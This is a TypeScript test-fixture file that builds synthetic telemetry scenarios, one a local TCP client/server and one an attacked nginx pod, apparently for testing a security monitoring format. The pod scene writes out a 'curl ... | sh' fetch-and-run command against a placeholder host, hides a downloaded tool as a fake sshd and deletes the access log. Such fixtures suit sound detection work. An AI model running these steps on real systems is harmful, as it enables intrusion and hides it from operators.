import { type Scenario, scenario } from "./scenario.ts";

/**
 * A server and a client that speak TCP on one host, both started from a login shell: the scene of the documented
 * example. It has four process events, four file flows and two network flows.
 */
export function clientServerScene(): Scenario {
  const traffic = { fd: 3, readBytes: 80, writeBytes: 80, lasts: 10_000 } as const;
  return loginShells()
    .process("server", { exe: "./server", pid: 13823, parent: "server-shell", uid: 1000, user: "dev", gid: 1000, group: "dev", tty: true })
    .exec()
    .fileFlow("/etc/ld.so.cache", { operations: ["OPEN", "CLOSE"], open: ["RDONLY", "CLOEXEC"] })
    .read("/lib64/libc.so.6", { readBytes: 832 })
    .wait(2000)
    .process("client", { exe: "./client", pid: 13824, parent: "client-shell", uid: 1000, user: "dev", gid: 1000, group: "dev", tty: true })
    .exec()
    .fileFlow("/etc/ld.so.cache", { operations: ["OPEN", "CLOSE"], open: ["RDONLY", "CLOEXEC"] })
    .read("/lib64/libc.so.6", { readBytes: 832 })
    .networkFlow("127.0.0.1:40556", "127.0.0.1:8080", { ...traffic, operations: ["CONNECT", "SEND", "RECV", "TRUNCATE"] })
    .wait(10_000)
    .exit(2, { after: 0 })
    .by("server")
    .networkFlow("127.0.0.1:40556", "127.0.0.1:8080", { ...traffic, fd: 4, readOps: 2, operations: ["ACCEPT", "SEND", "RECV", "TRUNCATE"] })
    .exit(2);
}

function loginShells(): Scenario {
  const login = { exe: "/usr/sbin/sshd", parent: "sshd" } as const;
  const shell = { exe: "/usr/bin/bash", uid: 1000, user: "dev", gid: 1000, group: "dev", tty: true } as const;
  return scenario()
    .host("tests", { version: 4, filename: "client-server.sf" })
    .process("systemd", { exe: "/usr/lib/systemd/systemd", args: "--system", pid: 1 })
    .process("sshd", { exe: "/usr/sbin/sshd", args: "-D", pid: 1844, parent: "systemd" })
    .process("server-login", { ...login, pid: 7951 })
    .process("server-shell", { ...shell, pid: 7955, parent: "server-login" })
    .process("client-login", { ...login, pid: 7126 })
    .process("client-shell", { ...shell, pid: 7130, parent: "client-login" });
}

/**
 * A web server in a pod: a cluster tells of the pod, the server starts, drops its privileges, reads its pages, answers a
 * request, and somebody who got in fetches a tool and hides it. It has a record of each type.
 */
export function podScene(): Scenario {
  return scenario()
    .host("node-1", { version: 4, ip: "192.168.7.11", filename: "pod.sf" })
    .k8s({ message: { kind: "Pod", type: "ADDED", items: [{ name: "web-7c5ddbdf54-x2x9k", namespace: "shop" }] } })
    .pod("web-7c5ddbdf54-x2x9k", {
      node: "node-1",
      namespace: "shop",
      hostIp: ["192.168.7.11"],
      internalIp: ["10.1.0.2", "10.1.0.3"],
      restartCount: 1,
      labels: { app: "web" },
      selectors: { app: "web" },
      services: [
        {
          name: "web",
          id: "5d1f1d3c-7ff9-4a4d-9d55-0f8f3e9b5a01",
          namespace: "shop",
          clusterIp: ["10.96.14.2"],
          portList: [{ port: 80, targetPort: 8080, nodePort: 30080, proto: "TCP" }],
        },
      ],
    })
    .container("web", { image: "nginx:1.27", type: "CT_CONTAINERD", pod: "web-7c5ddbdf54-x2x9k" })
    .process("nginx", { exe: "/usr/sbin/nginx", args: "-g daemon off;", pid: 2201, container: "web", entry: true })
    .exec()
    .read("/etc/nginx/nginx.conf", { readBytes: 648 })
    .write("/var/log/nginx/access.log", { open: ["WRONLY", "CREAT", "APPEND"], writeBytes: 118, fd: 5 })
    .clone("worker", { pid: 2207 })
    .setuid(101, "nginx")
    .networkEvent("ACCEPT", "10.1.0.9:40112", "10.1.0.2:8080")
    .accept("10.1.0.9:40112", "10.1.0.2:8080", { readBytes: 74, writeBytes: 853, fd: 11, lasts: 12 })
    .read("/usr/share/nginx/html/index.html", { readBytes: 615, fd: 12 })
    .clone("shell", { pid: 2231 })
    .exec({ exe: "/bin/sh", args: "-c curl -s http://203.0.113.7/t | sh" })
    .clone("curl", { pid: 2232 })
    .exec({ exe: "/usr/bin/curl", args: "-s http://203.0.113.7/t" })
    .networkFlow("10.1.0.2:55012", "10.1.0.53:53", { protocol: "udp", operations: ["SEND", "RECV", "CLOSE"], writeBytes: 44, readBytes: 60, fd: 4 })
    .connect("10.1.0.2:40118", "203.0.113.7:80", { writeBytes: 79, readBytes: 40_960, readOps: 10, fd: 5, lasts: 350 })
    .exit(0)
    .by("shell")
    .mkdir("/tmp/.x")
    .write("/tmp/t", { writeBytes: 40_960, writeOps: 10 })
    .rename("/tmp/t", "/tmp/.x/t")
    .symlink("/tmp/.x/t", "/usr/local/bin/sshd")
    .unlink("/var/log/nginx/access.log")
    .rmdir("/tmp/old", { ret: -2 })
    .exit(0)
    .by("worker")
    .processFlow({ cloned: 3, exited: 1, lasts: 1000 });
}
